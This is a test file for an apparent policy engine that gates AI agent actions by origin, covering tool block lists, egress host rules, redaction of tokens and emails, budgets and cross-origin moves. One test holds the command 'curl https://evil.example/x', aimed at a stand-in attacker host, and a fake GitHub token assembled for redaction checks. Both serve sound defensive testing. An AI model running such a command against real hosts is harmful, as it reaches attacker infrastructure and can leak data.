/** What an origin permits: tools, hosts, outputs, budgets, bridges; and what the session remembers. */
import type { JsonObject } from '@countersign/kernel';
import { compilePolicy, judgeOrigin, type OriginAnswer, type OriginMemory, POLICY_LIMITS } from '@countersign/policy';
import { type Action, PROTOCOL_LIMITS } from '@countersign/protocol';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { redacted } from '../src/origin-data.ts';
import { actionOf, compiled, resolved, understanding } from './support.ts';

const SLACK: JsonObject = { provider: 'slack', space_id: 'C1', visibility: 'internal' };

function asked(
  policy: string,
  fields: Partial<Action> & { readonly kind: string },
  ...[kept, claim = SLACK]: readonly [kept?: OriginMemory | undefined, claim?: JsonObject]
): OriginAnswer {
  const { origins } = compiled(policy);
  if (origins === undefined) throw new Error('the policy has no origins');
  const action = actionOf({ origin: { origin: claim }, ...fields });
  return judgeOrigin(origins, { action, facts: understanding.understand(action, []), kept });
}

const codes = ({ objections }: OriginAnswer): readonly string[] => objections.map(({ code }) => code);
const one = (profile: string, rest = ''): string => `origins: {profiles: [{id: a${profile === '' ? '' : `, ${profile}`}}${rest}]}\n`;
const call = (tool: string, params: JsonObject = {}): { kind: string; tool: string; params: JsonObject } => ({
  kind: 'mcp.call',
  tool,
  params,
});

describe('POL-304 an action without a place is denied', () => {
  it.each([
    ['no origin', undefined, 'origin_required'],
    ['an origin that is elsewhere in the action', { provider: 'slack' }, 'origin_required'],
    ['an origin that is no object', { origin: 'slack' }, 'origin_malformed'],
    ['an origin without provider', { origin: { space_id: 'C1' } }, 'origin_malformed'],
    ['an origin with a visibility nobody knows', { origin: { provider: 'slack', visibility: 'Internal' } }, 'origin_malformed'],
    ['an origin that no profile matches', { origin: { provider: 'teams' } }, 'origin_unknown'],
  ] as const)('%s', (_, origin, code) => {
    const { origins } = compiled(one('match_rules: {provider: slack}'));
    const action = actionOf({ kind: 'file.read', params: { path: '/a' }, ...(origin === undefined ? {} : { origin: { ...origin } }) });
    const answer = judgeOrigin(origins ?? { minimal: undefined, profiles: [], byId: new Map() }, {
      action,
      facts: understanding.understand(action, []),
      kept: undefined,
    });
    expect([codes(answer), answer.profile, answer.after, answer.refused]).toEqual([[code], undefined, undefined, undefined]);
  });

  it('a section without profiles denies every place; `minimal_profile` lets no tool through and nothing sensitive', () => {
    expect(codes(asked('origins: {}\n', call('x')))).toEqual(['origin_unknown']);
    const minimal = 'origins: {default_behavior: minimal_profile}\n';
    expect(codes(asked(minimal, call('x')))).toEqual(['tool_blocked_by_default']);
    expect(codes(asked(minimal, { kind: 'shell.exec', tool: 'shell.exec', params: { command: 'ls' } }))).toEqual([
      'tool_blocked_by_default',
    ]);
    expect(codes(asked(minimal, { kind: 'file.read', params: { path: '/a' } }))).toEqual([]);
    expect(codes(asked(minimal, { kind: 'agent.message', content: 'mail jo@example.org' }))).toEqual(['sensitive_output']);
    expect(asked(minimal, { kind: 'file.read', params: { path: '/a' } }).profile).toEqual({ id: '', by: 'default' });
  });
});

describe('POL-305 tools and hosts of a profile', () => {
  const tools = (mcp: string, ...names: readonly string[]): readonly string[] =>
    names.map((name) => codes(asked(one(`mcp: {${mcp}}`), call(name))).join());

  it('block, confirmation, allow, default, in this order; a name that ends in `*` is a beginning', () => {
    expect(tools('block: ["deploy_*", x]', 'deploy_prod', 'Deploy-Prod', 'mcp__ci__deploy_prod', 'deploy', 'x', 'y')).toEqual([
      'tool_blocked',
      'tool_blocked',
      'tool_blocked',
      '',
      'tool_blocked',
      '',
    ]);
    expect(tools('require_confirmation: ["roll*"], default_action: allow', 'rollback_db', 'other')).toEqual([
      'tool_needs_confirmation',
      '',
    ]);
    expect(
      tools('allow: ["docs.*", search.query], default_action: block', 'docs.read', 'search_query', 'search.other', 'mcp__s__docs.read'),
    ).toEqual(['', '', 'tool_not_allowed', 'tool_not_allowed']);
    expect(tools('allow: ["*"], block: [x]', 'y', 'x')).toEqual(['', 'tool_blocked']);
    expect(tools('allow: ["*"], require_confirmation: [x]', 'x')).toEqual(['tool_needs_confirmation']);
    expect(tools('default_action: block', 'y')).toEqual(['tool_blocked_by_default']);
    expect(tools('', 'y')).toEqual(['']);
    expect(tools('enabled: false, default_action: block', 'y')).toEqual(['']);
  });

  it('a confirmation that nobody can give is a refusal, and no more than a warning', () => {
    const [objection] = asked(one('mcp: {require_confirmation: [x]}'), call('x')).objections;
    expect(objection).toMatchObject({ code: 'tool_needs_confirmation', step: true });
  });

  it('arguments have a size, at n and n + 1; a call without a name is refused', () => {
    expect(codes(asked(one('mcp: {max_args_size: 10}'), call('x', { a: 'bc' })))).toEqual([]);
    expect(codes(asked(one('mcp: {max_args_size: 10}'), call('x', { a: 'bcd' })))).toEqual(['args_too_large']);
    expect(codes(asked(one('mcp: {}'), { kind: 'tool.call', params: {} }))).toEqual(['missing_tool']);
    const fill = (bytes: number): JsonObject => ({ a: 'x'.repeat(bytes - 8) });
    expect(codes(asked(one('mcp: {}'), call('x', fill(POLICY_LIMITS.originArgsBytes))))).toEqual([]);
    expect(codes(asked(one('mcp: {}'), call('x', fill(POLICY_LIMITS.originArgsBytes + 1))))).toEqual(['args_too_large']);
  });

  it('hosts: block, allow, default; a policy of the profile never opens what the guard closes', () => {
    const go = (egress: string, host: string): string =>
      codes(asked(one(`egress: {${egress}}`), { kind: 'net.egress', params: { host } })).join();
    expect(go('allow: ["*.a.example"]', 'x.a.example')).toBe('');
    expect(go('allow: ["*.a.example"]', 'a.example.evil.example')).toBe('egress_not_in_allowlist');
    expect(go('allow: ["*"], block: [b.example]', 'B.example.')).toBe('egress_matches_block_list');
    expect(go('default_action: allow', 'c.example')).toBe('');
    expect(go('enabled: false', 'c.example')).toBe('');
    expect(codes(asked(one('egress: {}'), { kind: 'net.egress', params: {} }))).toEqual(['egress_missing_host']);
    const logged = asked(one('egress: {default_action: log}'), { kind: 'net.egress', params: { host: 'c.example' } });
    expect([codes(logged), logged.logged?.code]).toEqual([[], 'egress_logged']);
  });

  it('commands reach hosts too', () => {
    const command = 'curl https://evil.example/x';
    expect(codes(asked(one('egress: {allow: [a.example]}'), { kind: 'shell.exec', params: { command } }))).toEqual([
      'egress_not_in_allowlist',
    ]);
  });
});

describe('POL-306 what leaves through an origin', () => {
  const data = (flags: string): string => one(`data: {${flags}}`);
  const send = (flags: string, content: string, claim: JsonObject = SLACK): OriginAnswer =>
    asked(data(flags), { kind: 'agent.message', content }, undefined, claim);
  const TOKEN = ['gh', 'p_', 'R7kQ2vX9mB4tLw8ZcN1s', 'Yf6HdJ3pGa5uKe0T'].join('');

  it('nothing is sent where others can see it, unless it may be shared; a place that does not say counts as seen', () => {
    for (const claim of [
      { visibility: 'public' },
      { visibility: 'external_shared' },
      { visibility: 'unknown' },
      {},
      { visibility: 'internal', external_participants: true },
    ]) {
      const there = { provider: 'slack', ...claim };
      expect([claim, codes(send('', 'hello', there))]).toEqual([claim, ['external_sharing']]);
      expect(codes(send('allow_external_sharing: true', 'hello', there))).toEqual([]);
    }
    expect(codes(send('', 'hello'))).toEqual([]);
    expect(codes(asked(one(''), { kind: 'agent.message', content: 'hello' }, undefined, { provider: 'slack' }))).toEqual([]);
    expect(codes(asked(data(''), { kind: 'model.output', content: 'hello' }, undefined, { provider: 'slack' }))).toEqual([]);
  });

  it('secrets and personal data: blocked, or refused with the text that would pass', () => {
    for (const kind of ['agent.message', 'model.output']) {
      const said = (flags: string, content: string): OriginAnswer => asked(data(flags), { kind, content });
      expect(codes(said('block_sensitive_outputs: true', `use ${TOKEN} now`))).toEqual(['sensitive_output']);
      const [objection] = said('redact_before_send: true', `use ${TOKEN} now, or ask jo@example.org`).objections;
      expect(objection).toMatchObject({
        code: 'redaction_required',
        sanitized: 'use [REDACTED:github_token] now, or ask [REDACTED:email]',
      });
      expect(codes(said('redact_before_send: true', objection?.sanitized ?? ''))).toEqual([]);
      expect(codes(said('redact_before_send: true', 'nothing special'))).toEqual([]);
      expect(codes(said('', `use ${TOKEN} now`))).toEqual([]);
    }
    expect(codes(asked(data('block_sensitive_outputs: true'), { kind: 'tool.response', content: TOKEN }))).toEqual([]);
  });

  it('what is packed cannot be redacted in place, and what could not be read whole is not sent', () => {
    const packed = Buffer.from(`token ${TOKEN} for the deploy`).toString('base64');
    const [objection] = send('redact_before_send: true', `see ${packed}`).objections;
    expect([objection?.code, objection?.sanitized]).toEqual(['redaction_required', undefined]);
    const { origins } = compiled(data('redact_before_send: true'));
    const action = actionOf({ kind: 'agent.message', content: 'x', origin: { origin: SLACK } });
    const facts = { ...understanding.understand(action, []), cuts: ['texts' as never] };
    expect(origins === undefined ? [] : codes(judgeOrigin(origins, { action, facts, kept: undefined }))).toEqual(['output_unread']);
  });

  it('a redacted text keeps everything else, whatever overlaps', () => {
    const spans = fc.array(fc.tuple(fc.nat(30), fc.nat(30)), { maxLength: 6 });
    fc.assert(
      fc.property(fc.string({ minLength: 30, maxLength: 30, unit: fc.constantFrom('a', 'b', 'c') }), spans, (content, pairs) => {
        const found = pairs.map(([a, b]) => ({
          span: { path: '/content', start: Math.min(a, b), end: Math.max(a, b) + 0 },
          type: 'T',
          layers: [],
        }));
        const kept = content
          .split('')
          .filter((_, i) => !found.some(({ span }) => span.start <= i && i < span.end))
          .join('');
        expect(redacted(content, found)?.replaceAll('[REDACTED:T]', '')).toBe(kept);
      }),
      { numRuns: 500, seed: 5 },
    );
    expect(redacted('abc', [{ span: { path: '/params/to', start: 0, end: 1 }, type: 'T', layers: [] }])).toBeUndefined();
    expect(redacted('abc', [{ span: { path: '/content', start: 0, end: 4 }, type: 'T', layers: [] }])).toBeUndefined();
  });
});

describe('POL-307 budgets and states of a profile', () => {
  it('are counted in the session, of each profile; a spent one refuses, and 0 is spent', () => {
    const policy = one('budgets: {mcp_tool_calls: 2, shell_commands: 0}');
    const first = asked(policy, call('x'));
    expect([codes(first), first.after?.counts]).toEqual([[], { 'origin/a/mcp_tool_calls': 1 }]);
    const second = asked(policy, call('x'), { ...first.after });
    expect(second.after?.counts).toEqual({ 'origin/a/mcp_tool_calls': 2 });
    const third = asked(policy, call('x'), { ...first.after, ...second.after });
    expect(third.objections).toMatchObject([{ code: 'budget_exhausted', quiet: true }]);
    expect(third.after?.counts).toBeUndefined();
    expect(codes(asked(policy, { kind: 'shell.exec', params: { command: 'ls' } }))).toEqual(['budget_exhausted']);
    expect(codes(asked(policy, { kind: 'file.read', params: { path: '/a' } }))).toEqual([]);
  });

  it('a tool call that runs a command is one of both', () => {
    const policy = one('budgets: {mcp_tool_calls: 9, shell_commands: 9}');
    const { after } = asked(policy, call('shell.exec', { command: 'ls -l' }));
    expect(after?.counts).toEqual({ 'origin/a/mcp_tool_calls': 1, 'origin/a/shell_commands': 1 });
  });

  const POSTURE =
    'posture: {initial: high, states: {high: {capabilities: [shell, mcp_tool]}, low: {capabilities: [mcp_tool], budgets: {mcp_tool_calls: 1}}}}\n';
  it('the state of a profile takes away and gives nothing: its capabilities and the tighter of both budgets', () => {
    const policy = one('posture: low, budgets: {mcp_tool_calls: 5}') + POSTURE;
    expect(asked(policy, { kind: 'shell.exec', params: { command: 'ls' } }).objections).toMatchObject([
      { code: 'capability_not_allowed', quiet: true },
    ]);
    const { after } = asked(policy, call('x'));
    expect(codes(asked(policy, call('x'), { ...after }))).toEqual(['budget_exhausted']);
    expect(codes(asked(one('posture: locked') + POSTURE, call('x')))).toEqual(['capability_not_allowed']);
    expect(codes(asked(one('posture: high') + POSTURE, call('x')))).toEqual([]);
  });

  it('POL-310 what a session remembers at most is half of a state slice', () => {
    const name = (i: number): string => `${'p'.repeat(POLICY_LIMITS.labelCharsMax - 2)}${String(i).padStart(2, '0')}`;
    const counts = Object.fromEntries(
      Array.from({ length: PROTOCOL_LIMITS.sessionCountsMax }, (_, i) => [`origin/${name(i)}/mcp_tool_calls`, 1_000_000_000]),
    );
    const origin = { at: '0'.repeat(POLICY_LIMITS.originPlaceChars), profile: name(0) };
    expect(JSON.stringify({ origin, counts }).length).toBeLessThan(PROTOCOL_LIMITS.stateSliceBytesMax / 2 + 128);
  });

  it('a session counts so many budgets and not one more', () => {
    const policy = one('budgets: {mcp_tool_calls: 5}');
    const others = (count: number): OriginMemory => ({
      counts: Object.fromEntries(Array.from({ length: count }, (_, i) => [`origin/p${String(i)}/mcp_tool_calls`, 1])),
    });
    expect(codes(asked(policy, call('x'), others(PROTOCOL_LIMITS.sessionCountsMax - 1)))).toEqual([]);
    expect(codes(asked(policy, call('x'), others(PROTOCOL_LIMITS.sessionCountsMax)))).toEqual(['too_many_origins']);
    const known = { counts: { ...others(PROTOCOL_LIMITS.sessionCountsMax - 1).counts, 'origin/a/mcp_tool_calls': 1 } };
    expect(codes(asked(policy, call('x'), known))).toEqual([]);
  });
});

describe('POL-308 a session that goes on in another place', () => {
  const GITHUB: JsonObject = { provider: 'github', space_type: 'pull_request', visibility: 'internal' };
  const policy = (bridge: string): string =>
    one(
      `match_rules: {provider: slack}${bridge === '' ? '' : `, bridge_policy: {${bridge}}`}`,
      ', {id: b, match_rules: {provider: github}}',
    );
  const from = (bridge: string, claim: JsonObject): OriginAnswer => {
    const { after } = asked(policy(bridge), call('x'));
    return asked(policy(bridge), call('x'), { ...after }, claim);
  };

  it('begins where it is first seen, refused or not, and stays there without a word', () => {
    const first = asked(policy(''), call('x'));
    expect(first.after?.origin).toMatchObject({ profile: 'a' });
    expect(first.refused).toEqual({ origin: first.after?.origin });
    const again = asked(policy(''), call('x'), { ...first.after }, { ...SLACK, actor_id: 'somebody else' });
    expect([codes(again), again.after, again.refused]).toEqual([[], undefined, undefined]);
  });

  it('goes nowhere unless the profile it stands in says so', () => {
    expect(codes(from('', GITHUB))).toEqual(['cross_origin']);
    expect(codes(from('allow_cross_origin: false, allowed_targets: [{provider: github}]', GITHUB))).toEqual(['cross_origin']);
    expect(codes(from('', { ...SLACK, visibility: 'external_shared' }))).toEqual(['cross_origin']);
    expect(codes(from('', { ...SLACK, thread_id: 't' }))).toEqual(['cross_origin']);
  });

  it('goes where the profile names, or anywhere where it names nothing; then it stands there', () => {
    const named = 'allow_cross_origin: true, allowed_targets: [{provider: github, space_type: pull_request}, {tags: [x]}]';
    const gone = from(named, GITHUB);
    expect([codes(gone), gone.after?.origin?.profile, gone.refused]).toEqual([[], 'b', undefined]);
    expect(codes(from(named, { ...GITHUB, space_type: 'issue' }))).toEqual(['cross_origin_target']);
    expect(codes(from(named, { ...SLACK, space_id: 'C2' }))).toEqual(['cross_origin_target']);
    expect(codes(from(named, { ...GITHUB, space_type: 'issue', tags: ['x'] }))).toEqual([]);
    expect(codes(from('allow_cross_origin: true', GITHUB))).toEqual([]);
    expect(codes(asked(policy(named), call('x'), { ...gone.after }))).toEqual(['cross_origin']);
  });

  it('an approval that nobody can give is a refusal, and no more than a warning', () => {
    expect(from('allow_cross_origin: true, require_approval: true', GITHUB).objections).toMatchObject([
      { code: 'cross_origin_approval', step: true },
    ]);
  });

  it('a profile that the policy no longer has lets no session go', () => {
    const kept = { origin: { at: '0'.repeat(32), profile: 'gone' } };
    expect(codes(asked(policy('allow_cross_origin: true'), call('x'), kept))).toEqual(['cross_origin']);
    expect(codes(asked(policy('allow_cross_origin: true'), call('x'), { origin: { at: '0'.repeat(32), profile: '' } }))).toEqual([
      'cross_origin',
    ]);
  });
});

describe('POL-304 the judge of origins is a pure function', () => {
  it('equal questions have equal answers, and a policy out of JSON the same', () => {
    const again = compilePolicy(JSON.parse(JSON.stringify(resolved('origin-enclaves-example'))) as never);
    const claims = [SLACK, { ...SLACK, tags: ['incident'] }, { provider: 'x', visibility: 'external_shared' }, { provider: 'x' }];
    for (const claim of claims) {
      const action = actionOf({ ...call('deploy_x'), origin: { origin: claim } });
      const facts = understanding.understand(action, []);
      const first = asked('origin-enclaves-example', call('deploy_x'), undefined, claim);
      expect(again.ok && again.value.origins && judgeOrigin(again.value.origins, { action, facts, kept: undefined })).toEqual(first);
    }
  });
});
